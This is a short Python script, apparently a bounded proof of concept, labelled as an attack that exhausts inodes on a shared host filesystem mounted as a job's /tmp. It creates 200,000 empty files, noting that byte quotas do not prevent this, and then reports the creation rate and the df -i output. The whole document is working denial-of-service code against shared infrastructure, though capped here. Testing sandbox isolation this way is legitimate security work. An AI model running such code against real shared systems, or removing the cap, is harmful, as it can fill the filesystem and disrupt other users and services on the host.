# Attack: inode exhaustion of the shared filesystem holding the work root (job /tmp is bound from the job folder
# on the host's filesystem). Bounded here to N empty files (0 bytes: a byte quota would not stop this).
import os, time, subprocess
N = 200_000
t = time.time()
os.makedirs('/tmp/i', exist_ok=True)
for i in range(N):
    os.close(os.open(f'/tmp/i/{i}', os.O_CREAT | os.O_WRONLY, 0o600))
dt = time.time() - t
print(f"created {N} empty files in {dt:.1f}s ({N/dt:.0f}/s)")
print(subprocess.run(['df', '-i', '/tmp'], capture_output=True, text=True).stdout)
OutputDataSet = InputDataSet
